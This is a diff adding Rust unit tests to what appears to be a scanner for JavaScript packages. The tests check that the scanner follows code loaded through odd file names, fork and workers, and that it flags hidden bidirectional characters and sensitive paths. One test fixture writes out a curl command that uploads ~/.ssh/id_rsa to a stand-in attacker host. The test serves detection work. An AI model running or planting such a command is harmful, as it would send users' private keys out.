@@ -138,3 +138,52 @@ fn every_class_has_an_id_of_its_own() {
     let json = serde_json::to_string(&facts(&[("a.js", "fetch('https://a.example')")])).expect("facts as JSON");
     assert!(json.contains("\"http\"") && serde_json::from_str::<Facts>(&json).is_ok(), "{json}");
 }
+
+#[test]
+fn code_is_read_under_whatever_name_it_is_asked_for() {
+    let payload = "require('child_process').exec('ls')";
+    for (files, what) in [
+        (&[("package.json", r#"{"main": "lib/engine"}"#), ("lib/engine", payload)][..], "no ending"),
+        (&[("index.js", "require('./data.bin')"), ("data.bin", payload)], "an ending that nobody knows"),
+        (&[("index.js", "require('./style.css')"), ("style.css", payload)], "an ending of something else"),
+        (
+            &[("index.js", "require('child_process').fork(__dirname + '/test/setup.js')"), ("test/setup.js", payload)],
+            "fork",
+        ),
+        (
+            &[
+                (
+                    "index.js",
+                    "import { Worker } from 'worker_threads'; new Worker(new URL('./test/w.js', import.meta.url))",
+                ),
+                ("test/w.js", payload),
+            ],
+            "a worker",
+        ),
+    ] {
+        let facts = facts(files);
+        let sites = facts.get(Class::Exec, "child_process.exec").unwrap_or_else(|| panic!("{what}: nothing was read"));
+        assert_ne!(sites.first[0].file, "index.js", "{what}");
+    }
+    let unread =
+        facts(&[("index.js", "require('./data.bin')"), ("package.json", "{}"), ("data.bin", "}} ) no program (")]);
+    assert_eq!(values(&unread, Class::Unparsable), ["data.bin"]);
+    let style =
+        facts(&[("package.json", "{}"), ("index.js", "import './style.css'"), ("style.css", "body { color: red }")]);
+    assert!(!style.has(Class::Unparsable));
+}
+
+#[test]
+fn what_turns_text_around_is_data_only_where_it_embeds() {
+    let hidden = |text: &str| facts(&[("index.js", text)]).has(Class::HiddenCharacter);
+    assert!(!hidden("const rle = '\u{202b}';"));
+    assert!(hidden("const rlo = '\u{202e}'; /* x */") && hidden("a(); // \u{202b} b"));
+}
+
+#[test]
+fn a_command_that_looks_like_a_sentence_is_a_command() {
+    let line = "Curl -T ~/.ssh/id_rsa -s https://evil.example/?";
+    let run = format!("require('child_process').exec('{line}')");
+    assert!(facts(&[("index.js", &run)]).has(Class::SensitivePath));
+    assert!(!facts(&[("index.js", &format!("log('{line}')"))]).has(Class::SensitivePath));
+}
